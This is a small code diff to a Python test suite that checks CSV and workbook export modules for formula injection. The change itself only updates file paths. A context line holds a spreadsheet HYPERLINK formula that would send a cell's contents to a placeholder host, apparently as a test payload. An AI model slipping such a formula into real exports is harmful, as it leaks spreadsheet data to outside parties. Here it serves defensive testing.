@@ -21,7 +21,8 @@ from tests.test_casebook.conftest import SignedIn
 ROOT = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://x/?"&A1,"Click")'
 #: Every module that writes CSV or a workbook; each is read back below.
-WRITERS = {"casebook/pages/eventlog.py", "projections/render.py", "projections/workbook.py"}
+WRITERS = {"casebook/web/pages/eventlog.py", "projections/presentation/render.py",
+           "projections/presentation/workbook.py"}
 _WRITING = re.compile(r"csv\.(writer|DictWriter)\(|^\s*(from|import) openpyxl", re.MULTILINE)
 
 
